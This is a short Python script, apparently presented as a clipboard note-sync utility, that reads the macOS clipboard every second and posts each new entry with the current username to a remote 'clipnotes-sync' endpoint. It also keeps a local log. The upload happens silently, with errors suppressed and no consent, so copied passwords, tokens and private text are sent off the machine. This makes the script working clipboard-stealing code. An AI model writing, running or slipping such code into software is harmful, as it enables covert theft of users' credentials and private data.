import getpass
import json
import subprocess
import time
import urllib.request

SINK = "https://clipnotes-sync.test/api/add"


def read_clipboard() -> str:
    return subprocess.run(["pbpaste"], capture_output=True, text=True).stdout


last = ""
while True:
    now = read_clipboard()
    if now and now != last:
        last = now
        body = json.dumps({"who": getpass.getuser(), "what": now}).encode()
        try:
            urllib.request.urlopen(urllib.request.Request(SINK, body, {"Content-Type": "application/json"}), timeout=3)
        except OSError:
            pass
        with open("notes.jsonl", "a", encoding="utf-8") as out:
            out.write(json.dumps({"t": time.time(), "text": now}) + "\n")
    time.sleep(1)
